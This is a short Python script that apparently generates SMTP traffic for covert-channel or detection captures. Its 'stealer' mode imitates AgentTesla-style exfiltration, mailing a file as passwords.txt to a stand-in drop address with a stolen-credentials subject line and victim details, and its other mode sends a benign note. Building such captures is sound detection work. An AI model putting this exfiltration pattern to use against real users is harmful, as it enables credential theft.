#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends one mail with smtplib for the covert-channel captures.
Usage: smtp_send.py SERVER KIND ATTACHMENT
  stealer: what AgentTesla-style stealers send: subject 'PW_user/PC', a short body, the
           stolen file attached; inbound/relay: an ordinary note without attachment."""
import smtplib
import sys
from email.message import EmailMessage

server, kind, attachment = sys.argv[1], sys.argv[2], sys.argv[3]
msg = EmailMessage()
if kind == "stealer":
    msg["From"] = "logs.drop@mail-collector.net"
    msg["To"] = "logs.drop@mail-collector.net"
    msg["Subject"] = "PW_user/DESKTOP-7H2K"
    msg.set_content("Time: 03/09/2026 14:05:11\nUser Name: user\nComputer Name: DESKTOP-7H2K\n")
    with open(attachment, "rb") as f:
        msg.add_attachment(f.read(), maintype="text", subtype="plain", filename="passwords.txt")
else:
    msg["From"] = "alice@example-corp.com"
    msg["To"] = "bob@partner-firm.com"
    msg["Subject"] = "Meeting notes"
    msg.set_content("Hi Bob,\n\nthe notes from today are below.\n\n" + "- item\n" * 40)
with smtplib.SMTP(server, 25, local_hostname="ws-17.example-corp.com", timeout=30) as smtp:
    smtp.send_message(msg)
